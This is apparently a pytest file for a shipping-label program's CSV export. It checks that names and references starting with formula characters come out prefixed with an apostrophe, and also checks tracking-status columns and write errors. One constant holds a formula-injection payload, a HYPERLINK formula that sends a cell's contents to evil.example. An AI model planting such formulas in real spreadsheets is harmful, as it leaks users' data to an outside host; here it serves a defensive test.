"""The list of labels as a file for spreadsheets holds every label, with nothing in it that could run."""

from __future__ import annotations

import csv
from dataclasses import replace
from pathlib import Path

import pytest

from postwright.domain.faults import Environment, FaultKind
from postwright.operations.export_labels import export_labels
from postwright.operations.follow_parcels import ask_about
from tests.domain.samples import CUSTOMER, SHIPMENT
from tests.operations.shops import Shop

NASTY = '=HYPERLINK("http://evil.example?"&A1,"x")'


@pytest.mark.row("X5")
def test_every_label_is_a_line_and_no_name_is_a_formula(shop: Shop, tmp_path: Path) -> None:
    plain = shop.bought().label
    to = replace(CUSTOMER, name=NASTY, company="-1+1", city="@SUM")
    shop.bought(replace(SHIPMENT, ship_to=to, order_reference="+1", references=(NASTY, "ok")))
    file = tmp_path / "labels.csv"
    assert export_labels(shop.labels.recent(), file) == f"Wrote 2 labels to {file}."
    with open(file, encoding="utf-8-sig", newline="") as stream:
        nasty, line = sorted(csv.DictReader(stream), key=lambda row: row["To"])
    assert nasty["To"] == f"'{NASTY}"
    assert [nasty[name][0] for name in ("Company", "City", "Order", "References")] == ["'"] * 4
    assert line["Tracking number"].replace(" ", "") == plain.tracking_number
    assert (line["Cost"], line["Currency"]) == (str(plain.cost.amount), "USD")
    assert (line["To"], line["ZIP code"], line["Void"], line["Copies printed"]) == (
        "Ann Lee",
        "18702",
        "no",
        "0",
    )


def test_a_line_says_what_usps_said_last_and_when(shop: Shop, tmp_path: Path) -> None:
    left, unasked = (shop.bought().id for _ in range(2))
    shop.practice.mail(left)
    shop.later(hours=30)
    ask_about(shop.tracker(), left)
    file = tmp_path / "labels.csv"
    export_labels(shop.labels.recent(), file)
    with open(file, encoding="utf-8-sig", newline="") as stream:
        told = {row["Label"]: (row["Tracking status"], row["Status as of"]) for row in csv.DictReader(stream)}
    status = shop.labels.get(left).status
    assert status is not None
    assert told[left] == (status.words, "2026-11-23 10:00")
    assert told[unasked] == ("", "")


def test_a_file_that_cannot_be_written_is_told(shop: Shop, tmp_path: Path) -> None:
    shop.bought()
    with pytest.raises(Environment) as caught:
        export_labels(shop.labels.recent(), tmp_path / "none" / "labels.csv")
    assert caught.value.kind is FaultKind.FILE_UNWRITABLE
